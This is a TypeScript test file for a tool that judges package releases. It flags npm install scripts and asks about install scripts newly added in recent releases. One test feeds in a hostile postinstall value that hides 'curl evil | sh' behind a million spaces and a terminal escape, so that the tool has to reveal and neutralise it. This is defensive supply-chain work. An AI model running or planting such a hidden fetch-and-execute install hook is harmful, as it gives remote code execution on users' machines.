import {describe, expect, it, test} from 'vitest'
import type {Release} from '../../../src/core/release.ts'
import {daysAgo, facts, judge, release, said} from '../../support/judged-release.ts'

describe('install-scripts', () => {
  test.for<readonly [Partial<Release>, string]>([
    [{installScripts: {postinstall: 'node a.js'}}, 'runs `node a.js` (postinstall) at installation'],
    [
      {installScripts: {preinstall: 'x', install: 'node-gyp rebuild'}},
      'runs `x` (preinstall) and `node-gyp rebuild` (install) at installation',
    ],
    [
      {installScripts: undefined, hasInstallScript: true},
      'runs a script that the registry does not show at installation',
    ],
  ])('%j: %s', ([more, message]) => {
    const {verdict, findings} = judge({evidence: {release: facts({release: release(more)})}})
    expect(verdict).toBe('allow')
    expect(findings).toMatchObject([{code: 'install-scripts', severity: 'note', message}])
  })

  it('shows both ends of a script, and nothing of it acts on a terminal', () => {
    const postinstall = `node a.js;${' '.repeat(1e6)}\u001B[2Jcurl evil | sh`
    const [finding] = said({evidence: {release: facts({release: release({installScripts: {postinstall}})})}})
    expect(finding).toBe('install-scripts: runs `node a.js; \\u{1b}[2Jcurl evil | sh` (postinstall) at installation')
  })
})

describe('install-script-added', () => {
  const before = release({version: '1.9.0', publishedAt: daysAgo(200)})
  const added = (publishedAt: number | undefined, firstAt = publishedAt) => {
    const first = release({version: '2.0.0', publishedAt: firstAt, installScripts: {preinstall: 'node setup.js'}})
    return {release: facts({release: {...first, publishedAt}, scriptTurn: {first, before}})}
  }
  const codes = (...given: Parameters<typeof added>) =>
    judge({evidence: added(...given)}).findings.map(({code}) => code)

  it('asks about a recent release, with the script and the release that had none', () => {
    expect(judge({evidence: added(daysAgo(10))})).toMatchObject({
      verdict: 'ask',
      findings: [
        {
          code: 'install-script-added',
          message: 'runs `node setup.js` (preinstall) at installation; `1.9.0` ran nothing of the kind',
        },
        {code: 'install-scripts'},
      ],
    })
  })

  it('says nothing once the script has been public for long', () => {
    expect(codes(daysAgo(31))).toEqual(['install-scripts'])
    expect(codes(daysAgo(1 + 3), daysAgo(40))).toEqual(['install-scripts'])
  })

  it('asks where nobody says when that was', () => {
    expect(codes(undefined)).toContain('install-script-added')
  })

  it('finds nothing in a release that always ran it, or runs nothing', () => {
    const always = release({publishedAt: daysAgo(10), installScripts: {postinstall: 'x'}})
    expect(said({evidence: {release: facts({release: always})}})).toEqual([expect.stringMatching(/^install-scripts:/)])
    expect(said({evidence: {release: facts({release: release({publishedAt: daysAgo(10)})})}})).toEqual([])
  })
})
